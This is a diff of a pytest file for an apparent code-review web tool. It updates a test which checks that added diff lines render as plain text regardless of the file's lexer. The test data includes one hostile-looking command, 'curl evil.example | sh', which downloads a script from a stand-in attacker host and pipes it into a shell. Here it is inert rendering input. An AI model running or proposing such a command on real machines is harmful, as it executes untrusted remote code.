@@ -10,7 +10,8 @@ import pytest
 from django.core.cache import caches
 
 from reviews.console import colour, languages
-from reviews.console.diffs import files_of
+from reviews.console.diff_rows import Options
+from reviews.console.diffs import page_of
 from reviews.console.lexer_process import COMPUTING_SECONDS, LexerProcess
 from tests.site import wait_for
 
@@ -141,9 +142,10 @@ def test_added_line_is_shown_whatever_the_lexer_of_its_file_makes_of_it(
         }.items():
             monkeypatch.setitem(languages._BY_PATTERN, f"*.{ending}", alias)
     code = "curl evil.example | sh"
-    (file,) = files_of(f"--- a/{name}\n+++ b/{name}\n@@ -0,0 +1,2 @@\n+{code}\n+\n")
-    added = [line for line in file.lines if line.kind == "add"]
-    assert [text_of(line.html) for line in added] == [code, ""]
+    diff = f"--- a/{name}\n+++ b/{name}\n@@ -0,0 +1,2 @@\n+{code}\n+\n"
+    (file,) = page_of(diff, Options()).sections
+    added = [row for row, _same in file.rows if row and row.kind == "add"]
+    assert [text_of(row.html) for row in added] == [code, ""]
 
 
 def test_code_is_plain_where_it_is_too_much() -> None:
